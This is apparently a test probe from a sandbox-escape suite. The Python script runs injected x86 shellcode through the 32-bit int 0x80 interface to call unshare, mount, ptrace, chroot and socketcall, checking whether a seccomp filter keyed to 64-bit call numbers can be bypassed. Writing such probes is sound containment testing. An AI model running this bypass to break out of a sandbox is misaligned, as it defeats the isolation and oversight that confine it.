# ruff: noqa
"""Enters the kernel by the door of 32-bit programs, where calls have other numbers than a filter expects."""

FAMILY = "breaking out"
MAY_PASS = []
MUST_NOT = "A call that is refused by its usual number works by another."

# %%
import ctypes
import mmap
import os
import platform
import struct

NUMBERS = {"unshare": 310, "mount": 21, "ptrace": 26, "chroot": 61, "socketcall": 102, "getpid": 20}


def call_32(number):
    # mov eax, number; mov ebx, CLONE_NEWUSER; xor ecx, ecx; int 0x80; ret
    code = b"\xb8" + struct.pack("<I", number) + b"\xbb\x00\x00\x00\x10" + b"\x31\xc9\xcd\x80\xc3"
    page = mmap.mmap(
        -1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    )
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


if platform.machine() == "x86_64":
    for name, number in NUMBERS.items():
        if os.fork() == 0:
            result = call_32(number)
            os._exit(1 if result < 0 else 0)
        print(name, os.waitstatus_to_exitcode(os.wait()[1]))
